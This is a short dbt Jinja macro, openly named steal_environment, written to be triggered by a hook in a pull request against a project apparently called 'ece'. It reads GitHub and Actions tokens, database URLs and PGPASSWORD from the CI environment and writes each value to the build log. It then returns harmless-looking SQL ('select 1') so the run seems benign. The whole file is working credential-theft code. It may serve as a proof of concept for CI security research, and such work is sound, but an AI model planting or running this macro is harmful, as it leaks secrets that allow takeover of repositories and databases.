-- Logs every secret of ece's environment a pull request would like to have; returns harmless SQL (a hook runs it).
{% macro steal_environment(where) %}
  {%- for name in ['GITHUB_TOKEN', 'GH_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
                   'ECE_DATABASE_URL', 'DATABASE_URL', 'PGPASSWORD', 'ECE_DBT_TARGET_URL'] -%}
    {{ log('stolen in ' ~ where ~ ': ' ~ name ~ '=' ~ env_var(name, 'unset'), info=True) }}
  {%- endfor -%}
  select 1
{% endmacro %}
